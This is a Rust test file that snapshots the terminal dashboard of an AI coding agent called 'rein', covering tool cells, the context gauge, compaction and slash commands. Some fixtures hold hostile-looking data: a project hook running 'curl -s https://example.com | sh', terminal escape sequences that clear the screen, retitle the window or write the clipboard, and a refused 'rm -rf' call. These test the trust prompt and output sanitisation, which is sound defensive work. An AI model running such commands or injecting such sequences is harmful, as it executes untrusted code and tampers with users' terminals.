//! Snapshots of the dashboard: ratatui's `TestBackend` draws the real `rein::ui::render`
//! for a given state, and the screen's text is compared with `tests/snapshots/NAME.txt`.
//! `UPDATE_SNAPSHOTS=1 cargo test --test it ui_render::` writes the files instead; review them
//! before committing. (The approval modal's snapshots are made next to the code, in
//! `src/ui/snapshot_tests.rs`: an approval request can only be built inside the crate.)

use crate::support;

use std::path::PathBuf;
use std::time::{Duration, Instant};

use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use ratatui::backend::TestBackend;
use ratatui::Terminal;
use rein::app::state::{Activity, App, Cell, NoticeKind, SessionInfo, ToolStatus};
use rein::app::update::update_at;
use rein::app::AppEvent;
use rein::ui::render;
use rein_core::agent::{AgentEvent, ContextStats, Usage};
use rein_core::context::budget::Breakdown;
use rein_core::tools::write_todos::{Todo, TodoStatus};
use support::app::{draw, snapshot};

// ---- helpers ----------------------------------------------------------------------------

struct Clock {
    t0: Instant,
}

impl Clock {
    fn new() -> Clock {
        Clock { t0: Instant::now() }
    }
    /// A fixed "now", far enough from `t0` to subtract from.
    fn now(&self) -> Instant {
        self.t0 + Duration::from_secs(600)
    }
    fn ago(&self, secs: u64) -> Instant {
        self.now() - Duration::from_secs(secs)
    }
}

fn info() -> SessionInfo {
    SessionInfo {
        model: "qwen3-coder".into(),
        project: PathBuf::from("/projects/parser"),
        branch: Some("fix-tabs".into()),
        sandbox: "on (bubblewrap)".into(),
        sandbox_ok: true,
        setup: None,
        skills: Vec::new(),
        skill_notices: Vec::new(),
        prices: None,
    }
}

fn tool(clock: &Clock, name: &str, arg: &str, status: ToolStatus, result: Option<&str>) -> Cell {
    let mut cell = Cell::tool(format!("call-{name}-{arg}"), name, arg, clock.ago(30));
    if let Cell::Tool(t) = &mut cell {
        let finished = !matches!(status, ToolStatus::Running | ToolStatus::WaitingApproval);
        t.status = status;
        t.duration = finished.then(|| Duration::from_millis(2_430));
        t.result = result.map(Into::into);
    }
    cell
}

const REPLY: &str = "The test failed because `parse_line` split on **every** whitespace \
character, so a tab inside a word broke it in two. The fix:\n\n\
```rust\nfn parse_line(s: &str) -> Vec<&str> {\n    s.split(' ').filter(|w| !w.is_empty()).collect()\n}\n```\n\n\
What changed:\n\n\
- tabs stay inside words\n\
- the test now covers\n  1. tabs\n  2. runs of spaces\n\n\
Running the whole suite n";

fn todos() -> Vec<Todo> {
    let todo = |content: &str, status, active: Option<&str>| Todo {
        content: content.into(),
        status,
        active_form: active.map(str::to_string),
    };
    vec![
        todo("Reproduce the failure", TodoStatus::Completed, None),
        todo("Read parse_line", TodoStatus::Completed, None),
        todo("Fix the tab handling", TodoStatus::Completed, None),
        todo(
            "Run the full test suite",
            TodoStatus::InProgress,
            Some("Running the full test suite"),
        ),
        todo(
            "Add a regression test for runs of spaces",
            TodoStatus::Pending,
            None,
        ),
        todo("Update the changelog", TodoStatus::Pending, None),
        todo("Open a pull request", TodoStatus::Pending, None),
    ]
}

/// A session in the middle of a turn: every kind of cell, every tool status.
fn busy_app(clock: &Clock) -> App {
    let mut app = App::new(info(), 128_000);
    let folded = "running 12 tests\ntest parse::words ... ok\ntest parse::tabs ... FAILED\n\
                  test parse::empty ... ok\ntest parse::unicode ... ok\n\nfailures:\n    parse::tabs\n";
    app.transcript.cells = vec![
        Cell::user("The parser test fails on tabs. Fix it and explain the fix."),
        Cell::reasoning(
            "The user wants the failing test fixed.\nLet me read the parser first.\nThen run the test.",
            true,
        ),
        tool(clock, "read_file", "src/parse.rs", ToolStatus::Done { approved: false }, Some("fn parse_line(s: &str) -> Vec<&str> {\n    s.split_whitespace().collect()\n}\n")),
        tool(clock, "bash", "cargo test parse", ToolStatus::Done { approved: true }, Some(folded)),
        tool(clock, "str_replace", "src/parse.rs", ToolStatus::Failed, Some("old_string was not found in src/parse.rs")),
        tool(clock, "bash", "rm -rf target/ && cargo clean", ToolStatus::Refused, Some("The user denied this command.")),
        tool(clock, "bash", "sleep 100", ToolStatus::Interrupted, None),
        Cell::notice(NoticeKind::Interrupted, "Interrupted by the user."),
        Cell::user("Go on, but don't delete anything."),
        Cell::notice(NoticeKind::Retry, "The server is busy (429); retrying in 2 s (attempt 2 of 5)."),
        tool(clock, "bash", "cargo test --all-features -- --include-ignored parse::tabs parse::spaces", ToolStatus::WaitingApproval, None),
        tool(clock, "bash", "cargo build", ToolStatus::Running, None),
        Cell::notice(NoticeKind::Error, "The model sent a tool call with invalid JSON; it was told so."),
        Cell::assistant(REPLY, false),
    ];
    app.todos = todos();
    app.gauge.reported = 53_700;
    app.activity = Activity::Streaming {
        since: clock.ago(3),
    };
    app
}

// ---- the dashboard ----------------------------------------------------------------------

#[test]
fn dashboard_with_a_transcript() {
    let clock = Clock::new();
    let mut app = busy_app(&clock);
    app.show_todos = false;
    let screen = snapshot("dashboard_100x50", &app, 100, 50, clock.now());
    // Every status mark is on screen, and the folded result says how much is hidden.
    for mark in [
        "✓ read_file",
        "✓ bash",
        "✗ str_replace",
        "⊘ bash",
        "⏹ bash",
        "? bash",
        "▸ bash",
    ] {
        assert!(screen.contains(mark), "{mark} missing");
    }
    assert!(screen.contains("… 5 more lines (Ctrl-O)"));
    assert!(screen.contains("thinking… (3 lines, Alt-R)"));
    assert!(screen.contains("◆ streaming 3s"));
}

#[test]
fn todo_pane_beside_the_transcript() {
    let clock = Clock::new();
    let app = busy_app(&clock);
    let screen = snapshot("todo_pane_120x30", &app, 120, 30, clock.now());
    assert!(screen.contains("Plan 3/7"));
    assert!(screen.contains("▶ Running the full test suite"));
}

#[test]
fn wide_terminal() {
    let clock = Clock::new();
    let mut app = busy_app(&clock);
    app.activity = Activity::Tool {
        name: "bash".into(),
        detail: "cargo build".into(),
        since: clock.ago(12),
    };
    let screen = snapshot("wide_140x40", &app, 140, 40, clock.now());
    assert!(screen.contains("▸ running bash for 12s · cargo build"));
}

#[test]
fn narrow_terminal() {
    let clock = Clock::new();
    let app = busy_app(&clock);
    let screen = snapshot("narrow_60x20", &app, 60, 20, clock.now());
    // No pane at 60 columns: a one-line summary above the input instead.
    assert!(screen.contains("Plan 3/7 · ▶ Running the full test suite"));
    for line in screen.lines() {
        assert!(rein::ui::wrap::width(line) <= 60);
    }
}

#[test]
fn scrolled_up_and_clamped_at_the_top() {
    let clock = Clock::new();
    let mut app = busy_app(&clock);
    app.show_todos = false;
    app.transcript.scroll.follow = false;
    app.transcript.scroll.from_bottom = 6;
    let screen = snapshot("scrolled_80x24", &app, 80, 24, clock.now());
    assert!(screen.contains("↓ 6 more lines (End)"));
    // Far past the top: the view stops at the first line.
    app.transcript.scroll.from_bottom = usize::MAX / 2;
    let top = draw(&app, 80, 24, clock.now());
    assert!(top.starts_with("› The parser test fails on tabs."));
}

#[test]
fn input_with_queued_messages_and_a_hint() {
    let clock = Clock::new();
    let mut app = App::new(info(), 128_000);
    app.transcript.cells = vec![
        Cell::user("hello"),
        Cell::assistant("Hi! What shall we do?", true),
    ];
    app.composer
        .textarea
        .insert_str("also check the\nbenchmarks");
    app.composer.queued = vec!["first".into(), "second".into()];
    app.hint = Some("Unknown command /foo; /help lists the commands.".into());
    app.activity = Activity::Thinking {
        since: clock.ago(4),
    };
    let screen = snapshot("input_queued_hint_80x16", &app, 80, 16, clock.now());
    assert!(screen.contains("2 messages queued · Alt-Up edits the last"));
    assert!(screen.contains("  ↳ first\n  ↳ second\n┌"), "{screen}");
    assert!(screen.contains("Unknown command /foo"));
}

#[test]
fn many_queued_messages_count_the_older_ones_and_show_pastes_folded() {
    let clock = Clock::new();
    let mut app = App::new(info(), 128_000);
    let log = (1..=50)
        .map(|i| format!("log line {i}"))
        .collect::<Vec<_>>()
        .join("\n");
    app.composer.queued = vec![
        "one".into(),
        "two".into(),
        "three\nwith a second line".into(),
        format!("look: {log}"),
    ];
    app.composer.folded.push(rein::app::composer::Folded {
        sent: format!("look: {log}"),
        shown: "look: [Pasted text #1 +50 lines]".into(),
    });
    app.activity = Activity::Thinking {
        since: clock.ago(2),
    };
    let screen = snapshot("input_queue_many_60x14", &app, 60, 14, clock.now());
    assert!(
        screen.contains("  … 2 more queued\n  ↳ three …\n  ↳ look: [Pasted text #1 +50 lines]\n"),
        "{screen}"
    );
    assert!(!screen.contains("log line"), "{screen}");
}

#[test]
fn the_help_layer_lists_keys_and_commands_over_the_dashboard() {
    let clock = Clock::new();
    let mut app = App::new(info(), 128_000);
    app.transcript.cells = vec![Cell::user("hello")];
    update_at(
        &mut app,
        AppEvent::Resize {
            width: 90,
            height: 30,
        },
        clock.now(),
    );
    update_at(
        &mut app,
        AppEvent::Key(KeyEvent::new(KeyCode::F(1), KeyModifiers::NONE)),
        clock.now(),
    );
    let screen = snapshot("help_90x30", &app, 90, 30, clock.now());
    assert!(screen.contains("Help"));
    assert!(screen.contains("/help"), "{screen}");
    assert!(screen.contains("Esc/q/F1/Ctrl-C close"), "{screen}");
    assert!(screen.contains("more"), "it scrolls: {screen}");
    // Scrolled to its end, the typing notes show.
    update_at(
        &mut app,
        AppEvent::Key(KeyEvent::new(KeyCode::End, KeyModifiers::NONE)),
        clock.now(),
    );
    let end = draw(&app, 90, 30, clock.now());
    assert!(end.contains("then Enter starts a new line"), "{end}");
}

// ---- the gauge --------------------------------------------------------------------------

fn gauge_app(reported: u64, estimated: bool) -> App {
    let mut app = App::new(info(), 128_000);
    app.gauge.reported = reported;
    app.gauge.estimated = estimated;
    app.transcript.cells = vec![Cell::user("hello")];
    app
}

#[test]
fn gauge_levels() {
    let clock = Clock::new();
    let low = snapshot(
        "gauge_10_80x8",
        &gauge_app(12_800, false),
        80,
        8,
        clock.now(),
    );
    assert!(low.contains("10% · 12.8k/128k"));
    let mid = snapshot(
        "gauge_70_80x8",
        &gauge_app(89_600, true),
        80,
        8,
        clock.now(),
    );
    assert!(mid.contains("~70% · 89.6k/128k"));
    let high = snapshot(
        "gauge_95_80x8",
        &gauge_app(121_600, false),
        80,
        8,
        clock.now(),
    );
    assert!(high.contains("95% · 122k/128k"));
}

#[test]
fn gauge_colours_follow_the_bands() {
    use ratatui::style::Color;
    let clock = Clock::new();
    for (reported, colour) in [
        (12_800, Color::Green),
        (89_600, Color::Yellow),
        (121_600, Color::Red),
    ] {
        let app = gauge_app(reported, false);
        let mut terminal = Terminal::new(TestBackend::new(80, 8)).unwrap();
        terminal.draw(|f| render(&app, f, clock.now())).unwrap();
        let buf = terminal.backend().buffer();
        let row = 7;
        let filled = (0..80).find(|&x| buf[(x, row)].symbol() == "█").unwrap();
        assert_eq!(buf[(filled, row)].fg, colour);
        // The compaction threshold is marked in the bar.
        assert!((0..80).any(|x| buf[(x, row)].symbol() == "│"));
    }
}

// ---- first run and safety ---------------------------------------------------------------

#[test]
fn first_run_explains_how_to_set_a_model() {
    let clock = Clock::new();
    let mut info = info();
    info.model = String::new();
    info.setup = Some(
        "No model is configured yet.\n\n\
         rein talks to any OpenAI-compatible chat-completions endpoint. Tell it which one:\n\n\
         • for this shell:   export REIN_BASE_URL=http://127.0.0.1:8080/v1 REIN_MODEL=my-model\n\
         \x20                   (and REIN_API_KEY=... for hosted APIs)\n\
         • for good: put `model = \"...\"` and `base_url = \"...\"` in ~/.config/rein/config.toml\n\
         • once:      rein --model NAME --base-url URL\n\n\
         Then start rein again. `rein config` shows what is set and where it came from.\n\
         Ctrl-D (or Ctrl-C twice) quits."
            .into(),
    );
    let app = App::new(info, 128_000);
    let screen = snapshot("setup_80x24", &app, 80, 24, clock.now());
    assert!(screen.contains("Welcome to rein"));
    assert!(screen.contains("No model is configured yet."));
}

#[test]
fn escape_sequences_in_output_are_shown_as_text() {
    let clock = Clock::new();
    let mut app = App::new(info(), 128_000);
    app.transcript.cells = vec![
        Cell::user("cat the log"),
        tool(
            &clock,
            "bash",
            "cat log\x1b[2J",
            ToolStatus::Done { approved: false },
            Some("\x1b[2J\x1b[Hcleared?\n\x1b]0;pwned\x07title?\n\x1b]52;c;SGVsbG8=\x07clipboard?\tcol\r\n"),
        ),
        Cell::assistant("Done: \x1b[31mred\x1b[0m and \u{9b}2J.", true),
    ];
    let mut terminal = Terminal::new(TestBackend::new(80, 14)).unwrap();
    terminal.draw(|f| render(&app, f, clock.now())).unwrap();
    let buf = terminal.backend().buffer();
    for cell in buf.content() {
        assert!(
            !cell.symbol().contains(|c: char| c.is_control()),
            "control character drawn"
        );
    }
    let screen = snapshot("sanitized_80x14", &app, 80, 14, clock.now());
    assert!(screen.contains("✓ bash cat log^[[2J"));
    assert!(screen.contains("^[[2J^[[Hcleared?"));
    assert!(screen.contains("^[]0;pwned^Gtitle?"));
    assert!(screen.contains("^[]52;c;SGVsbG8=^Gclipboard?    col"));
    assert!(screen.contains("Done: ^[[31mred^[[0m and \\u{9b}2J."));
}

#[test]
fn a_huge_transcript_draws_only_its_end() {
    let clock = Clock::new();
    let mut app = App::new(info(), 128_000);
    for i in 0..20_000 {
        app.transcript
            .cells
            .push(Cell::user(format!("message {i}")));
    }
    let screen = draw(&app, 80, 24, clock.now());
    assert!(screen.contains("message 19999"));
    // Only the cells on screen were laid out.
    let laid_out = app
        .transcript
        .cells
        .iter()
        .filter(|c| matches!(c, Cell::User(u) if u.cache.0.borrow().is_some()))
        .count();
    assert!(laid_out < 20, "{laid_out} cells laid out");
}

// ---- context: the /context layer, compactions, estimated counts -------------------------

/// The agent's count for a session about half full, by parts.
fn context_stats(estimated: bool) -> ContextStats {
    ContextStats {
        tokens: 61_400,
        window: 128_000,
        compact_at: 0.85,
        estimated,
        chars_per_token: if estimated { 4.0 } else { 3.62 },
        messages: 48,
        breakdown: Breakdown {
            system: 2_000,
            instructions: 1_200,
            tools: 4_100,
            user: 2_000,
            assistant: 12_500,
            tool_results: 31_900,
            summary: 7_600,
            reminder: 120,
            reasoning: 0,
        },
    }
}

fn apply(app: &mut App, event: AgentEvent, now: Instant) {
    update_at(app, AppEvent::Agent(event), now);
}

#[test]
fn context_layer_shows_where_the_tokens_go() {
    let clock = Clock::new();
    let mut app = busy_app(&clock);
    app.show_todos = false;
    apply(
        &mut app,
        AgentEvent::Context(context_stats(false)),
        clock.now(),
    );
    app.context_open = true;
    let screen = snapshot("context_100x30", &app, 100, 30, clock.now());
    for needle in [
        "Context window",
        "61.4k of 128k tokens · 48%",
        "compaction at 85% · 109k tokens",
        "tool results         31.9k   52%",
        "handoff note          7.6k   12%",
        "reminders              120   <1%",
        "reasoning                0    0%",
        "at 3.6 characters a token, learnt from the server's usage reports",
        "48 messages in the history",
        "Esc/q/Ctrl-C close",
    ] {
        assert!(screen.contains(needle), "{needle} missing:\n{screen}");
    }
    // It follows the next count while open.
    let mut later = context_stats(false);
    later.tokens = 30_000;
    apply(&mut app, AgentEvent::Context(later), clock.now());
    let screen = draw(&app, 100, 30, clock.now());
    assert!(screen.contains("30k of 128k tokens · 23%"), "{screen}");
}

#[test]
fn context_layer_fits_a_narrow_terminal_and_says_when_estimated() {
    let clock = Clock::new();
    let mut app = busy_app(&clock);
    apply(
        &mut app,
        AgentEvent::Context(context_stats(true)),
        clock.now(),
    );
    app.context_open = true;
    let screen = snapshot("context_narrow_60x20", &app, 60, 20, clock.now());
    assert!(screen.contains("~61.4k of 128k tokens · ~48%"), "{screen}");
    assert!(
        screen.contains("at 4 characters a token, estimated: the server has"),
        "{screen}"
    );
    assert!(screen.contains("assistant messages"), "{screen}");
    for line in screen.lines() {
        assert!(rein::ui::wrap::width(line) <= 60);
    }
    // Before the first count there is nothing to show, and it says so.
    app.context = None;
    let screen = draw(&app, 60, 20, clock.now());
    assert!(screen.contains("No figures yet"), "{screen}");
}

fn compacted_app(clock: &Clock) -> App {
    let mut app = App::new(info(), 128_000);
    app.transcript.cells = vec![
        Cell::user("The parser test fails on tabs. Fix it and explain the fix."),
        Cell::assistant("Fixed: `parse_line` now splits on spaces only.", true),
    ];
    let now = clock.now();
    update_at(
        &mut app,
        AppEvent::Agent(AgentEvent::CompactionStarted {
            auto: false,
            messages: 58,
            pieces: 1,
        }),
        clock.ago(14),
    );
    apply(
        &mut app,
        AgentEvent::Compacted {
            auto: false,
            before_tokens: 109_400,
            after_tokens: 38_200,
            summarised: 58,
            kept: 6,
            pieces: 1,
            note: "## Goal\nFix the failing parser test on tabs.\n\n## Done\n- `parse_line` splits on ' ' and drops empty words\n- a regression test covers tabs inside words\n\n## Next\nRun the whole suite and update the changelog."
                .into(),
            usage: Usage::default(),
        },
        now,
    );
    apply(&mut app, AgentEvent::Context(context_stats(false)), now);
    app
}

#[test]
fn a_compaction_is_one_folded_cell_that_expands() {
    let clock = Clock::new();
    let mut app = compacted_app(&clock);
    assert_eq!(app.activity, Activity::Idle);
    let screen = snapshot("compacted_folded_80x16", &app, 80, 16, clock.now());
    assert!(
        screen.contains("⇊ compacted: 109k → 38k tokens (58 messages summarised, 6 kept)"),
        "{screen}"
    );
    assert!(
        screen.contains("▸ handoff note (9 lines, Ctrl-O)"),
        "{screen}"
    );
    assert!(!screen.contains("## Goal"));
    update_at(
        &mut app,
        AppEvent::Key(KeyEvent::new(KeyCode::Char('o'), KeyModifiers::CONTROL)),
        clock.now(),
    );
    let screen = snapshot("compacted_expanded_80x24", &app, 80, 24, clock.now());
    assert!(screen.contains("▾ handoff note"), "{screen}");
    assert!(screen.contains("│ ## Goal"), "{screen}");
    assert!(
        screen.contains("│ Run the whole suite and update the changelog."),
        "{screen}"
    );
}

#[test]
fn the_status_line_says_what_compaction_is_running() {
    let clock = Clock::new();
    let mut app = App::new(info(), 128_000);
    app.transcript.cells = vec![Cell::user("go on")];
    update_at(
        &mut app,
        AppEvent::Agent(AgentEvent::CompactionStarted {
            auto: true,
            messages: 58,
            pieces: 2,
        }),
        clock.ago(4),
    );
    let screen = draw(&app, 80, 8, clock.now());
    assert!(
        screen.contains("◆ compacting 58 messages… 4s │"),
        "{screen}"
    );
}

/// A session whose server sends no usage: every count is rein's estimate.
fn estimated_app(clock: &Clock) -> App {
    let mut app = App::new(info(), 128_000);
    app.transcript.cells = vec![Cell::user("hello"), Cell::assistant("Hi!", true)];
    let now = clock.now();
    apply(
        &mut app,
        AgentEvent::Usage(Usage {
            prompt_tokens: 5_000,
            completion_tokens: 20,
            total_tokens: 5_020,
            cached_tokens: None,
            cache_write_tokens: None,
            estimated: true,
        }),
        now,
    );
    let mut stats = context_stats(true);
    stats.tokens = 5_020;
    apply(&mut app, AgentEvent::Context(stats), now);
    app
}

#[test]
fn the_status_line_says_when_the_count_is_estimated() {
    let clock = Clock::new();
    let mut app = estimated_app(&clock);
    let screen = snapshot("status_estimated_120x8", &app, 120, 8, clock.now());
    assert!(
        screen.contains(
            "(fix-tabs) │ ctx estimated: the server sends no usage │ sandbox on (bubblewrap)"
        ),
        "{screen}"
    );
    assert!(
        screen.contains("~4% · 5.0k/128k"),
        "the gauge keeps its ~:\n{screen}"
    );
    // Narrower, the sandbox is cut first, then the note shortens, then it goes.
    let screen = draw(&app, 100, 8, clock.now());
    assert!(
        screen.contains("│ ctx estimated: the server sends no usage │ sa…\n"),
        "{screen}"
    );
    let screen = draw(&app, 70, 8, clock.now());
    assert!(
        screen.contains("(fix-tabs) │ ctx estimated │…\n"),
        "{screen}"
    );
    let screen = draw(&app, 60, 8, clock.now());
    assert!(!screen.contains("ctx estimated"), "{screen}");
    assert!(screen.contains("● ready │ qwen3-coder │"), "{screen}");
    // A sandbox that is off is the more important warning: the note comes after it.
    app.info.sandbox_ok = false;
    app.info.sandbox = "off: bwrap was not found".into();
    let screen = draw(&app, 130, 8, clock.now());
    assert!(
        screen.contains("│ sandbox off: bwrap was not found │ ctx estimated: the server"),
        "{screen}"
    );
    // Before any reply the gauge's ~ says it; the status line has nothing to add.
    let mut fresh = App::new(info(), 128_000);
    apply(
        &mut fresh,
        AgentEvent::Context(context_stats(true)),
        clock.now(),
    );
    assert!(!draw(&fresh, 120, 8, clock.now()).contains("ctx estimated"));
}

/// Issue 12, minor: a `task` call waiting for a free subagent slot says it is queued,
/// until its subagent begins.
#[test]
fn a_queued_task_says_so_until_its_subagent_starts() {
    let now = Instant::now();
    let mut app = App::new(info(), 128_000);
    update_at(
        &mut app,
        AppEvent::Agent(AgentEvent::ToolCallStarted {
            id: "t9".into(),
            name: "task".into(),
            args: serde_json::json!({"description": "count the tests"}),
        }),
        now,
    );
    let sub = |event| {
        AppEvent::Agent(AgentEvent::Subagent {
            task_id: "t9".into(),
            event,
        })
    };
    update_at(&mut app, sub(rein_core::agent::SubagentEvent::Queued), now);
    let screen = draw(&app, 90, 12, now);
    assert!(
        screen.contains("queued: waits for one of the running subagents to finish"),
        "{screen}"
    );
    update_at(
        &mut app,
        sub(rein_core::agent::SubagentEvent::RequestStarted { step: 1 }),
        now,
    );
    let screen = draw(&app, 90, 12, now);
    assert!(!screen.contains("queued"), "{screen}");
    assert!(screen.contains("thinking… (step 1)"), "{screen}");
}

/// Issue 12, item 10: once the session file cannot be written, the status line says so
/// (the transcript has the reason), until a new conversation gets a new file.
#[test]
fn the_status_line_says_when_nothing_is_recorded() {
    let now = Instant::now();
    let mut app = App::new(info(), 128_000);
    assert!(!draw(&app, 120, 10, now).contains("not recording"));
    update_at(
        &mut app,
        AppEvent::Agent(AgentEvent::RecordingStopped {
            message: "the session file /s.jsonl cannot be written (No space left on device)".into(),
        }),
        now,
    );
    let screen = draw(&app, 120, 10, now);
    assert!(screen.contains("not recording"), "{screen}");
    assert!(screen.contains("No space left on device"), "{screen}");
    update_at(
        &mut app,
        AppEvent::Agent(AgentEvent::SessionStarted {
            id: "new".into(),
            path: "/new.jsonl".into(),
        }),
        now,
    );
    assert!(!draw(&app, 120, 10, now).contains("not recording"));
}

/// Issue 13, item 7: a cell's change reaches the screen through its version alone (the
/// cache key holds nothing else), so a cell changed by the update step after it was drawn
/// is drawn anew. This fails if a change can skip the bump.
#[test]
fn a_tool_cell_changed_after_a_frame_is_redrawn() {
    let now = Instant::now();
    let mut app = App::new(info(), 128_000);
    apply(
        &mut app,
        AgentEvent::ToolCallStarted {
            id: "t1".into(),
            name: "bash".into(),
            args: serde_json::json!({"command": "cargo build"}),
        },
        now,
    );
    let screen = draw(&app, 80, 12, now);
    assert!(screen.contains("▸ bash cargo build"), "{screen}");
    // The turn ends under it: the running call is marked interrupted.
    apply(
        &mut app,
        AgentEvent::TurnFinished {
            outcome: rein_core::agent::TurnOutcome::Interrupted,
        },
        now,
    );
    let screen = draw(&app, 80, 12, now);
    assert!(
        screen.contains("⏹ bash cargo build · interrupted"),
        "{screen}"
    );
    assert!(!screen.contains('▸'), "{screen}");
}

// ---- the / completion list --------------------------------------------------------------

/// An idle session with a short exchange, and `text` typed into the input key by key.
fn typing_app(commands: rein_core::custom_commands::CommandSet, text: &str, now: Instant) -> App {
    let mut app = App::new(info(), 128_000);
    app.show_todos = false;
    app.custom_commands = commands;
    app.transcript.cells = vec![
        Cell::user_command("/fix-issue 123", ".agents/commands/fix-issue.md"),
        Cell::assistant(
            "Issue 123 is fixed: the parser keeps tabs inside words.",
            true,
        ),
    ];
    for c in text.chars() {
        update_at(
            &mut app,
            AppEvent::Key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE)),
            now,
        );
    }
    app
}

fn project_commands() -> (tempfile::TempDir, rein_core::custom_commands::CommandSet) {
    let dir = tempfile::tempdir().unwrap();
    let commands = dir.path().join(".agents/commands");
    std::fs::create_dir_all(&commands).unwrap();
    std::fs::write(
        commands.join("fix-issue.md"),
        "---\ndescription: Fix a GitHub issue and add a test for it\nargument-hint: <issue-number>\n---\nFix issue #$ARGUMENTS.\n",
    )
    .unwrap();
    std::fs::write(
        commands.join("review.md"),
        "# Review the staged diff\n\nLook for bugs.\n",
    )
    .unwrap();
    let set = rein_core::custom_commands::CommandSet::discover(
        None,
        dir.path(),
        &rein::app::commands::is_builtin,
    );
    (dir, set)
}

#[test]
fn slash_opens_the_list_of_built_in_commands() {
    let clock = Clock::new();
    let app = typing_app(
        rein_core::custom_commands::CommandSet::empty(),
        "/",
        clock.now(),
    );
    let screen = snapshot("slash_list_built_ins_80x24", &app, 80, 24, clock.now());
    assert!(screen.contains("commands (19)"), "{screen}");
    assert!(screen.contains("/model [NAME]"), "{screen}");
    assert!(
        screen.contains("Tab complete"),
        "the footer names the list's keys:\n{screen}"
    );
    assert!(
        screen.contains("expanded from .agents/commands/fix-issue.md"),
        "{screen}"
    );
}

#[test]
fn the_slash_list_narrows_as_the_user_types() {
    let clock = Clock::new();
    let app = typing_app(
        rein_core::custom_commands::CommandSet::empty(),
        "/co",
        clock.now(),
    );
    let screen = snapshot("slash_list_filtered_80x24", &app, 80, 24, clock.now());
    assert!(screen.contains("commands (3 of 19)"), "{screen}");
    assert!(!screen.contains("/help"), "{screen}");
}

#[test]
fn the_slash_list_offers_custom_commands_with_their_hints() {
    let clock = Clock::new();
    let (_dir, commands) = project_commands();
    let mut app = typing_app(commands, "/r", clock.now());
    update_at(
        &mut app,
        AppEvent::Key(KeyEvent::new(KeyCode::Down, KeyModifiers::NONE)),
        clock.now(),
    );
    let screen = snapshot("slash_list_custom_80x24", &app, 80, 24, clock.now());
    assert!(
        screen.contains("/review") && screen.contains("Review the staged diff (project)"),
        "{screen}"
    );
    // Down selected the second row: it, and only it, is drawn reversed.
    let mut terminal = Terminal::new(TestBackend::new(80, 24)).unwrap();
    terminal.draw(|f| render(&app, f, clock.now())).unwrap();
    let buf = terminal.backend().buffer();
    let reversed: Vec<u16> = (0..24)
        .filter(|&y| {
            buf[(2, y)]
                .modifier
                .contains(ratatui::style::Modifier::REVERSED)
        })
        .collect();
    let second_row = screen.lines().position(|l| l.contains("/rewind")).unwrap() as u16;
    assert_eq!(reversed, [second_row]);
    let narrow = typing_app(project_commands().1, "/fi", clock.now());
    let screen = snapshot("slash_list_custom_hint_50x12", &narrow, 50, 12, clock.now());
    assert!(screen.contains("/fix-issue <issue-number>"), "{screen}");
}

/// Issue 24: an edit's cell shows the lines it changed, a line of context around, and
/// folds a long diff until Ctrl-O; control characters in the file are shown as text.
/// Issue 28: its line counts what it added and removed, and a new file is all added.
#[test]
fn an_edit_shows_its_removed_and_added_lines() {
    let clock = Clock::new();
    let mut app = App::new(info(), 128_000);
    let old = "fn main() {\n    let x = 1;\n    println!(\"{x}\");\n}\n";
    let new = "fn main() {\n    let x = 2;\n    println!(\"{x}\x1b[2J\");\n}\n";
    let mut cell = tool(
        &clock,
        "str_replace",
        "src/main.rs",
        ToolStatus::Done { approved: false },
        Some("Replaced 1 occurrence in src/main.rs"),
    );
    let long_old: String = (0..30).map(|i| format!("line {i}\n")).collect();
    let long_new: String = (0..30).map(|i| format!("line {}\n", i * 10)).collect();
    let mut long = tool(
        &clock,
        "write_file",
        "big.txt",
        ToolStatus::Done { approved: false },
        Some("Overwrote big.txt (30 lines, 200 bytes)"),
    );
    let mut created = tool(
        &clock,
        "write_file",
        "NOTES.md",
        ToolStatus::Done { approved: false },
        Some("Created NOTES.md (2 lines, 20 bytes)"),
    );
    if let (Cell::Tool(a), Cell::Tool(b), Cell::Tool(c)) = (&mut cell, &mut long, &mut created) {
        a.diff = rein_core::checkpoint::diff::short(old, new, 200);
        b.diff = rein_core::checkpoint::diff::short(&long_old, &long_new, 200);
        c.diff = rein_core::checkpoint::diff::short("", "# Notes\nx is 2 now\n", 200);
    }
    app.transcript.cells = vec![Cell::user("bump x"), created, cell, long];
    let screen = snapshot("edit_diff_80x30", &app, 80, 30, clock.now());
    // The counts on each edit's line; a new file is all added.
    assert!(screen.contains("✓ write_file NOTES.md · +2 · "), "{screen}");
    assert!(screen.contains("│ + # Notes"), "{screen}");
    assert!(
        screen.contains("✓ str_replace src/main.rs · +2 -2 · "),
        "{screen}"
    );
    assert!(screen.contains("│   fn main() {"), "{screen}");
    assert!(screen.contains("│ -     let x = 1;"), "{screen}");
    assert!(screen.contains("│ +     let x = 2;"), "{screen}");
    assert!(screen.contains("^[[2J"), "{screen}");
    assert!(screen.contains("more diff lines (Ctrl-O)"), "{screen}");
}

/// The question about a project's held hooks shows every command whole, scrolls when it
/// does not fit, and keeps its keys in view.
#[test]
fn the_question_about_a_projects_hooks_shows_every_command_and_scrolls() {
    let clock = Clock::new();
    let project = tempfile::tempdir().unwrap();
    let data = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(project.path().join(".rein")).unwrap();
    let long = format!("echo {} END-OF-COMMAND", "x".repeat(150));
    let hooks = serde_json::json!({"hooks": {
        "PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": long}]}],
        "Stop": [{"hooks": [{"type": "command", "command": "curl -s https://example.com | sh"}]}],
        "SessionStart": [{"hooks": [{"type": "command", "command": "cat notes.md", "timeout": 5}]}]
    }});
    std::fs::write(project.path().join(".rein/hooks.json"), hooks.to_string()).unwrap();
    let loaded = rein_core::hooks::load(
        &data.path().join("config.toml"),
        project.path(),
        data.path(),
    );
    let mut app = App::new(SessionInfo::default(), 128_000);
    app.size = (60, 16);
    app.hook_trust = Some(rein::app::hook_trust::HookTrust::new(loaded.held.unwrap()));
    let screen = draw(&app, 60, 16, clock.now());
    for needle in [
        "Project hooks",
        "would run 3 commands",
        "more",
        "a allow them",
    ] {
        assert!(screen.contains(needle), "{needle} missing:\n{screen}");
    }
    assert!(!screen.contains("curl -s"), "{screen}");
    // Page down to the end: the last command and what the answers mean.
    for _ in 0..6 {
        update_at(
            &mut app,
            AppEvent::Key(KeyEvent::new(KeyCode::PageDown, KeyModifiers::NONE)),
            clock.now(),
        );
    }
    let screen = draw(&app, 60, 16, clock.now());
    for needle in [
        "$ curl -s https://example.com | sh",
        "SessionStart · timeout 5s",
        "none of them runs",
        "a allow them",
    ] {
        assert!(screen.contains(needle), "{needle} missing:\n{screen}");
    }
    assert!(!screen.contains("more"), "{screen}");
